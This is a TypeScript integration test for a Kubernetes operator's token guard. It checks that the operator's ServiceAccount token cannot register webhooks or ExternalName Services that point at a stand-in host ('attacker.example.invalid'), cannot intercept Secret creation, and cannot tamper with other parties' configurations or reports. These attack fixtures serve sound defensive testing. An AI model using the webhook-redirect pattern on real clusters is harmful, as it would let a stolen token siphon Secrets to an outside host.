/**
 * deploy/'s token guard, proven with the operator's own ServiceAccount token (issued by the real
 * API server's TokenRequest API, RBAC from deploy/): what a stolen token would be used for is
 * refused (webhooks sent elsewhere, another party's configurations, Services and reports, and
 * admission policies, which no guard can narrow and a default install does not grant), and
 * what the operator itself writes in cluster mode is allowed.
 */
import { expect } from 'chai';
import * as k8s from '@kubernetes/client-node';
import { cluster, kubectl, operatorKubeConfig, OPERATOR_NAMESPACE } from '../support/cluster.ts';
import { errorStatus } from '../support/objects.ts';
import { eventually } from '../support/wait.ts';
import { apply, connect, deleteIfExists, type Kube, type KubeObject } from '../../src/apiserver/client.ts';
import { service, webhookConfigurations } from '../../src/desired/objects.ts';
import { DEFAULTS, type OperatorConfig } from '../../src/config.ts';
import type { AdmissionSuite } from '../../src/api/types.ts';

const webhookConfiguration = (name: string, clientConfig: Record<string, unknown>, labels: Record<string, string> = {}): KubeObject => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'ValidatingWebhookConfiguration',
  metadata: { name, labels },
  webhooks: [
    {
      name: 'steal.example.com',
      clientConfig,
      rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] }],
      failurePolicy: 'Ignore',
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
    },
  ],
});
const OURS = { 'app.kubernetes.io/managed-by': 'portcullis' };
const REPORT_NS = 'default';
/** An OpenReports Report (a ClusterReport with namespace null), as the audit writes them: one result, its summary. */
const report = (name: string, labels: Record<string, string> = {}, namespace: string | null = REPORT_NS, fail = 0): KubeObject & { metadata: k8s.V1ObjectMeta & { name: string } } => ({
  apiVersion: 'openreports.io/v1alpha1',
  kind: namespace ? 'Report' : 'ClusterReport',
  metadata: { name, ...(namespace ? { namespace } : {}), labels },
  source: 'portcullis',
  summary: { pass: 1 - fail, fail, warn: 0, error: 0, skip: 0 },
  results: [{ source: 'portcullis', policy: 'guard-check', result: fail ? 'fail' : 'pass' }],
});

/** The write's refusal message, or 'allowed'. */
async function attempt(call: () => Promise<unknown>): Promise<string> {
  try {
    await call();
    return 'allowed';
  } catch (err) {
    return errorStatus(err).message ?? String(err);
  }
}

describe("deploy/'s token guard: the operator's ServiceAccount token writes only Portcullis' own objects", function () {
  let asOperator: Kube;
  const admin = () => cluster().kube;

  before(async function () {
    for (const file of ['deploy/00-namespace.yaml', 'deploy/02-rbac.yaml', 'deploy/04-token-guard.yaml', 'deploy/08-openreports-crds.yaml']) {
      const result = await kubectl(['apply', '--server-side', '--force-conflicts', '-f', file]);
      expect(result.code, result.stderr).to.equal(0);
    }
    const established = await kubectl(['wait', '--for=condition=Established', '--timeout=60s', 'crd/reports.openreports.io', 'crd/clusterreports.openreports.io']);
    expect(established.code, established.stderr).to.equal(0);
    asOperator = connect(await operatorKubeConfig());
  });

  after(async function () {
    for (const name of ['vendor-webhook', 'portcullis-guard-check']) {
      await admin()
        .admissionregistration.deleteValidatingWebhookConfiguration({ name })
        .catch(() => undefined);
    }
    for (const object of [report('portcullis'), report('portcullis-1'), report('portcullis-vendor'), report('portcullis', {}, null), report('portcullis-1', {}, null)]) {
      await admin()
        .objects.delete(object)
        .catch(() => undefined);
    }
  });

  it("refuses to register a webhook that sends requests anywhere but the operator's Services", async function () {
    // The policy takes a moment to load after it is created: wait for its first refusal.
    const first = await eventually(
      async () => {
        const answer = await attempt(() => asOperator.objects.create(webhookConfiguration('steal-secrets', { url: 'https://attacker.example.invalid/' })));
        if (answer === 'allowed') {
          await admin().admissionregistration.deleteValidatingWebhookConfiguration({ name: 'steal-secrets' });
          throw new Error('allowed: the guard is not loaded yet');
        }
        return answer;
      },
      { what: 'the token guard to refuse' },
    );
    expect(first).to.contain('may only write its own');
    const named = await attempt(() => asOperator.objects.create(webhookConfiguration('portcullis-steal', { url: 'https://attacker.example.invalid/' }, OURS)));
    expect(named).to.contain('may only register webhooks served by Services named portcullis-* in portcullis-system');
    const elsewhere = await attempt(() => asOperator.objects.create(webhookConfiguration('portcullis-steal', { service: { namespace: 'default', name: 'portcullis-x', port: 443 } }, OURS)));
    expect(elsewhere).to.contain('may only register webhooks served by Services named portcullis-* in portcullis-system');
  });

  it("refuses to edit or delete another party's configuration", async function () {
    await admin().objects.create(webhookConfiguration('vendor-webhook', { url: 'https://vendor.example.invalid/' }));
    const removed = await attempt(() => asOperator.admissionregistration.deleteValidatingWebhookConfiguration({ name: 'vendor-webhook' }));
    expect(removed).to.contain('may only write its own');
    const relabelled = await attempt(() =>
      asOperator.objects.patch(
        { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingWebhookConfiguration', metadata: { name: 'vendor-webhook', labels: OURS } },
        undefined,
        undefined,
        'thief',
        undefined,
        k8s.PatchStrategy.MergePatch,
      ),
    );
    expect(relabelled).to.contain('may only write its own');
    expect((await admin().admissionregistration.readValidatingWebhookConfiguration({ name: 'vendor-webhook' })).metadata?.labels ?? {}).to.deep.equal({});
  });

  it("refuses a Service that would send the API server's calls elsewhere", async function () {
    const external = await attempt(() =>
      asOperator.objects.create({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'portcullis-steal', namespace: OPERATOR_NAMESPACE, labels: OURS }, spec: { type: 'ExternalName', externalName: 'attacker.example.invalid' } }),
    );
    expect(external).to.contain('may only make ClusterIP Services in front of the operator');
  });

  it('refuses to write reports that are not its own, and writes its own', async function () {
    // Reports an earlier test's operator left in this cluster (an audit stopped before it cleaned up) would be in the way.
    for (const name of ['portcullis', 'portcullis-1', 'portcullis-vendor']) {
      for (const namespace of [REPORT_NS, null]) await deleteIfExists(admin(), { apiVersion: 'openreports.io/v1alpha1', kind: namespace ? 'Report' : 'ClusterReport', metadata: { name, ...(namespace ? { namespace } : {}) } });
    }
    // The OpenReports CRDs were just installed: wait for the first refusal (discovery, the guard's matching).
    const unlabelled = await eventually(
      async () => {
        const answer = await attempt(() => asOperator.objects.create(report('portcullis')));
        if (answer === 'allowed') {
          await admin().objects.delete(report('portcullis'));
          throw new Error('allowed: the guard does not match reports yet');
        }
        if (!answer.includes('may only write its own')) throw new Error(answer);
        return answer;
      },
      { what: 'the token guard to refuse a Report not labelled as its own' },
    );
    expect(unlabelled).to.contain('may only write its own reports (named portcullis or portcullis-*, labelled app.kubernetes.io/managed-by=portcullis)');
    expect(await attempt(() => asOperator.objects.create(report('kyverno-polr', OURS)))).to.contain('may only write its own reports');
    expect(await attempt(() => asOperator.objects.create(report('portcullis-1', {}, null)))).to.contain('may only write its own clusterreports');

    // Another tool's report, named as one of ours could be (only the label tells): neither relabelled, nor
    // replaced, nor deleted (nor patched: RBAC grants no patch).
    await admin().objects.create(report('portcullis-vendor'));
    const vendor = await admin().objects.read(report('portcullis-vendor'));
    const relabelled = await attempt(() => asOperator.objects.replace({ ...report('portcullis-vendor', OURS), metadata: { ...vendor.metadata, labels: OURS } }));
    expect(relabelled).to.contain('may only write its own reports');
    const patched = await attempt(() =>
      asOperator.objects.patch({ apiVersion: 'openreports.io/v1alpha1', kind: 'Report', metadata: { name: 'portcullis-vendor', namespace: REPORT_NS, labels: OURS } }, undefined, undefined, 'thief', undefined, k8s.PatchStrategy.MergePatch),
    );
    expect(patched).to.contain('cannot patch resource "reports"');
    const hidden = await attempt(() => asOperator.objects.replace({ ...report('portcullis-vendor', {}, REPORT_NS, 1), metadata: vendor.metadata }));
    expect(hidden).to.contain('may only write its own reports');
    expect(await attempt(() => asOperator.objects.delete(report('portcullis-vendor')))).to.contain('may only write its own reports');
    expect(((await admin().objects.read(report('portcullis-vendor'))) as KubeObject & { summary: { fail: number } }).summary.fail).to.equal(0);

    // Its own: created, updated keeping the label, not updated to drop it, deleted.
    expect(await attempt(() => asOperator.objects.create(report('portcullis', OURS)))).to.equal('allowed');
    expect(await attempt(() => asOperator.objects.create(report('portcullis-1', OURS)))).to.equal('allowed');
    expect(await attempt(() => asOperator.objects.create(report('portcullis', OURS, null)))).to.equal('allowed');
    const own = await admin().objects.read(report('portcullis'));
    expect(await attempt(() => asOperator.objects.replace({ ...report('portcullis', OURS, REPORT_NS, 1), metadata: own.metadata }))).to.equal('allowed');
    const updated = await admin().objects.read(report('portcullis'));
    expect(await attempt(() => asOperator.objects.replace({ ...report('portcullis', {}, REPORT_NS, 1), metadata: { ...updated.metadata, labels: {} } }))).to.contain('may only write its own reports');
    expect(await attempt(() => asOperator.objects.delete(report('portcullis')))).to.equal('allowed');
    expect(await attempt(() => asOperator.objects.delete(report('portcullis-1')))).to.equal('allowed');
    expect(await attempt(() => asOperator.objects.delete(report('portcullis', OURS, null)))).to.equal('allowed');
  });

  it('a default install grants no write of admission policies, which no guard can narrow: native enforcement is opt-in', async function () {
    const rule = { operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] };
    const policy = {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'ValidatingAdmissionPolicy',
      metadata: { name: 'w.guard-check.admission.portcullis.dev', labels: OURS },
      spec: { matchConstraints: { resourceRules: [rule] }, validations: [{ expression: 'false' }] },
    };
    const binding = {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'ValidatingAdmissionPolicyBinding',
      metadata: { name: 'w.guard-check.admission.portcullis.dev', labels: OURS },
      spec: { policyName: 'w.guard-check.admission.portcullis.dev', validationActions: ['Deny'] },
    };
    expect(await attempt(() => asOperator.objects.create(policy))).to.contain('cannot create resource "validatingadmissionpolicies"');
    expect(await attempt(() => asOperator.objects.create(binding))).to.contain('cannot create resource "validatingadmissionpolicybindings"');
    // Why it must stay opt-in: the API server sends no write of a policy to a policy, so a guard
    // such as this one (which refuses other kinds' writes not named as ours) never sees it.
    const probe = 'guard-check-policy-writes';
    const guard = [
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'ValidatingAdmissionPolicy',
        metadata: { name: probe },
        spec: {
          failurePolicy: 'Fail',
          matchConstraints: { resourceRules: [{ operations: ['CREATE'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*'] }] },
          validations: [{ expression: "!object.metadata.name.startsWith('guard-check-')", message: 'guarded' }],
        },
      },
      { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingAdmissionPolicyBinding', metadata: { name: probe }, spec: { policyName: probe, validationActions: ['Deny'] } },
    ];
    const guarded = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'guard-check-cm', namespace: 'default' } };
    const unguarded = { ...policy, metadata: { name: 'guard-check-vap' } };
    try {
      for (const object of guard) await apply(admin(), object);
      await eventually(async () => expect(await attempt(() => admin().objects.create(guarded))).to.contain('guarded'), { what: 'the probe guard to refuse a ConfigMap' });
      expect(await attempt(() => admin().objects.create(unguarded)), 'a policy write, which the guard matches but never sees').to.equal('allowed');
    } finally {
      for (const object of [unguarded, ...guard.reverse()]) await deleteIfExists(admin(), object as Parameters<typeof deleteIfExists>[1]);
    }
  });

  it('allows what the operator writes for a suite in cluster mode', async function () {
    const config: OperatorConfig = { ...DEFAULTS, namespace: OPERATOR_NAMESPACE, mode: 'cluster' };
    const suite: AdmissionSuite = {
      apiVersion: 'admission.portcullis.dev/v1alpha1',
      kind: 'AdmissionSuite',
      metadata: { name: 'guard-check', uid: '00000000-0000-0000-0000-000000000001', generation: 1 },
      spec: { webhooks: [{ name: 'w', type: 'Validating', rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['configmaps'] }], validations: [{ expression: 'true' }] }] },
    };
    // No owner references: the suite is not stored, so garbage collection would remove owned objects at once.
    const strip = (object: KubeObject) => ({ ...object, metadata: { ...(object.metadata as object), ownerReferences: undefined } }) as KubeObject;
    const svc = strip(service(suite, config)!);
    const configuration = strip(webhookConfigurations(suite, config, 'unused-bundle').get('Validating')!);
    // The operator's own verbs: server-side apply, and delete for a configuration type a suite no longer has.
    expect(await attempt(() => apply(asOperator, svc))).to.equal('allowed');
    expect(await attempt(() => apply(asOperator, configuration))).to.equal('allowed');
    expect(await attempt(() => deleteIfExists(asOperator, configuration as Parameters<typeof deleteIfExists>[1]))).to.equal('allowed');
    await deleteIfExists(admin(), svc as Parameters<typeof deleteIfExists>[1]);
  });
});
